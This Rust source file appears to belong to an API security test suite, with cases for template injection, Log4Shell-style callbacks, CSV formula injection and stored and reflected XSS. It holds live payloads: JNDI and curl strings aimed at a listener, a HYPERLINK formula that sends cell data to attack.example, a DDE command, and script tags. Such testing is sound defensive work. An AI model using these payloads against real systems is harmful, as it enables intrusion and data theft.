//! Texts for whatever shows them later: templates, spreadsheets, browsers, loggers.

use serde_json::json;

use super::as_a_name;
use crate::{
    attempt::Attempt,
    case::{Case, Need, PLAIN, Trouble, Verdict},
    cases::walk::CHANGES_ME,
    cases::{tokens::lure::Lure, walk::each},
    wire::Answer,
};

pub const CASES: &[Case] = &[
    Case {
        id: "template-name",
        title: "A name that is an expression of a template language",
        pillar: None,
        owasp: &["API8:2023"],
        asvs: &["1.3.7", "1.3.2"],
        teaching: "In 2016 Orange Tsai called himself `{{ '7'*7 }}` at Uber, and the mail greeted Mr 7777777: the name had \
                   become a part of the template and not something filled into it. From there it was a step to running \
                   Python on Uber's servers. A template must come from the program alone; what users write is a value, \
                   and values are not evaluated.",
        needs: CHANGES_ME,
        run: |attempt| Box::pin(template(attempt)),
        ..PLAIN
    },
    Case {
        id: "text-that-calls-home",
        title: "Texts that make a logger or a parser fetch something",
        pillar: None,
        owasp: &["API7:2023", "API8:2023"],
        asvs: &["1.3.6", "16.4.1"],
        teaching: "Log4Shell: Java's most used logger looked for `${jndi:ldap://…}` in every text that it was to log, fetched a \
                   class from there and ran it (CVE-2021-44228, CVSS 10). A name or a User-Agent was enough; the internet \
                   patched for a month. Here a listener waits for a visit, from names, headers, and paths. What is logged \
                   is data, and a service that fetches nothing needs no list of what it may.",
        needs: CHANGES_ME,
        run: |attempt| Box::pin(calls_home(attempt)),
        ..PLAIN
    },
    Case {
        id: "csv-formula",
        title: "Texts that are formulas in a spreadsheet",
        pillar: None,
        owasp: &["API8:2023"],
        asvs: &["1.2.10"],
        teaching: "A list of users is exported and opened in a spreadsheet, and the name `=HYPERLINK(…)` sends the neighbouring \
                   cells away at a click; older programs ran commands by DDE. The name did nothing in the service. An API \
                   that answers in JSON must keep such names to the letter, for people are called -- something; the quote \
                   that makes them harmless belongs to whoever writes a CSV file.",
        needs: CHANGES_ME,
        run: |attempt| Box::pin(formula(attempt)),
        ..PLAIN
    },
    Case {
        id: "xss-stored",
        title: "Markup in stored fields comes back as a page",
        pillar: None,
        owasp: &["API8:2023"],
        asvs: &["3.2.1", "4.1.1", "1.2.1"],
        teaching: "A script in a name is harmless in JSON, as long as it stays JSON: with `text/html`, or with no type and a \
                   browser that guesses, opening the API's address in a tab runs it with the service's origin. MySpace \
                   learned in 2005 how far one name goes: Samy had a million friends in a day. The right Content-Type, \
                   nosniff, and a policy that allows no script, on every answer.",
        needs: CHANGES_ME,
        run: |attempt| Box::pin(stored(attempt)),
        ..PLAIN
    },
    Case {
        id: "xss-reflected",
        title: "Markup in paths and queries comes back as a page",
        pillar: None,
        owasp: &["API8:2023"],
        asvs: &["3.2.1", "16.5.1"],
        teaching: "\"No route for /<script>…\" is an error page that says what was asked, and runs it: error pages are written \
                   by frameworks, seldom looked at, and reachable by a link. OWASP saw it in every second scanner report \
                   for twenty years. An error should repeat nothing of the request, and be of the same type as every other \
                   answer, with the same headers.",
        needs: &[Need::User, Need::Operation("GET", "/v1/articles")],
        run: |attempt| Box::pin(reflected(attempt)),
        ..PLAIN
    },
];

async fn template(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("refused or kept to the letter, never computed");
    let texts = [
        "{{7*7}}",
        "{{ '7'*7 }}",
        "${7*7}",
        "#{7*7}",
        "%{7*7}",
        "<%= 7*7 %>",
        "{% debug %} 1",
        "{{constructor.constructor('return process')()}}",
        "{0.__class__.__init__.__globals__}",
        "%s%s%n%x 1",
        "{7*7}",
        "@(7*7)",
        "[[${7*7}]]",
    ];
    as_a_name(attempt, &texts).await
}

async fn calls_home(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("nobody comes to our listener");
    let person = attempt.fresh_user().await?;
    let lure = Lure::open(attempt, "{}").await?;
    let place = lure.url().trim_start_matches("http://").to_owned();
    attempt.get("/v1/users/me").by(&person).note("Control: an honest request").send().await?.must_work("it answers")?;
    let texts = [
        format!("${{jndi:ldap://{place}/x}}"),
        format!("${{${{lower:j}}ndi:dns://{place}/x}}"),
        format!("<img src=http://{place}/x>"),
        format!("http://{place}/x"),
        format!("$(curl http://{place}/x)"),
        format!("<!--#include virtual=\"http://{place}/x\"-->"),
    ];
    for text in &texts {
        attempt.patch("/v1/users/me", &json!({"name": text})).by(&person).send().await?;
        attempt.post("/v1/articles", &json!({"title": text, "body": text})).by(&person).send().await?;
        let mut request = attempt.get("/v1/users/me").by(&person);
        for name in ["user-agent", "referer", "x-forwarded-for", "x-api-version", "origin", "accept-language"] {
            request = request.header(name, text);
        }
        request.send().await?;
    }
    // Loggers and the like work a moment later.
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    Ok(Verdict::held_if(lure.visits() == 0, || format!("{} visits came", lure.visits())))
}

async fn formula(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("refused or kept to the letter");
    let texts = [
        "=HYPERLINK(\"http://attack.example/?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd",
        "-2+3+cmd",
        "@SUM(1+1)",
        "=IMPORTXML(\"http://attack.example\",\"//a\")",
    ];
    as_a_name(attempt, &texts).await
}

/// Nothing that a browser would take for a page.
fn no_page(answer: &Answer) -> Verdict {
    let media_type = answer.header("content-type").unwrap_or("none").to_owned();
    let markup = answer.text().contains('<');
    let page = markup && !media_type.starts_with("application/json");
    let fell = Verdict::held_if(answer.status < 500, || format!("it fell over: {}", answer.seen()));
    let nosniff = answer.header("x-content-type-options").is_some_and(|value| value.eq_ignore_ascii_case("nosniff"));
    fell.and(Verdict::held_if(!page, || format!("markup came back as {media_type}")))
        .and(Verdict::held_if(nosniff || !markup, || "markup came back without nosniff".to_owned()))
}

async fn stored(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("application/json with nosniff, whatever a browser asks for");
    let person = attempt.fresh_user().await?;
    let markup = "Ada<script>alert(1)</script>";
    let named = attempt.patch("/v1/users/me", &json!({"name": markup})).by(&person).send().await?;
    let article = json!({"title": markup, "body": "<img src=x onerror=alert(1)> a"});
    let article = attempt.post("/v1/articles", &article).by(&person).send().await?;
    let me =
        attempt.get("/v1/users/me").by(&person).note("Control: it is read").send().await?.must_work("it is read")?;
    let path = format!("/v1/articles/{}", article.string("/id"));
    let accepts = ["text/html", "text/html,application/xhtml+xml,*/*;q=0.8", "*/*", "image/svg+xml", "text/xml"];
    let paths = ["/v1/users/me", "/v1/articles", path.as_str()];
    let tries =
        accepts.iter().flat_map(|accept| paths.map(|path| attempt.get(path).by(&person).header("accept", accept)));
    let tries = tries.collect();
    let verdict = no_page(&named).and(no_page(&article)).and(no_page(&me));
    if verdict.is_hole() { Ok(verdict) } else { each(tries, no_page).await }
}

async fn reflected(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("errors that repeat nothing of the request");
    let person = attempt.user().await?;
    attempt.get("/v1/articles").by(&person).note("Control: an honest request").send().await?.must_work("it answers")?;
    let markup = "%3Cscript%3Ealert(1)%3C/script%3E";
    let tries = vec![
        attempt.get(&format!("/{markup}")),
        attempt.get(&format!("/v1/articles/{markup}")).by(&person),
        attempt.get(&format!("/v1/articles?{markup}=1")).by(&person),
        attempt.get(&format!("/v1/articles?cursor={markup}")).by(&person),
        attempt.get("/v1/articles").by(&person).header("accept", "<script>alert(1)</script>"),
        attempt.get("/v1/users/me").header("authorization", "<script>alert(1)</script>"),
        attempt.request("PATCH", "/v1/users/me").by(&person).header("content-type", "text/<script>").body("{}"),
        attempt.patch("/v1/users/me", &json!({"<script>alert(1)</script>": 1})).by(&person),
        attempt.get("/").header("host", "attack.example").header("referer", "<script>alert(1)</script>"),
    ];
    let tries = tries.into_iter().map(|request| request.header("user-agent", "<script>alert(1)</script>"));
    each(tries.collect(), no_page).await
}
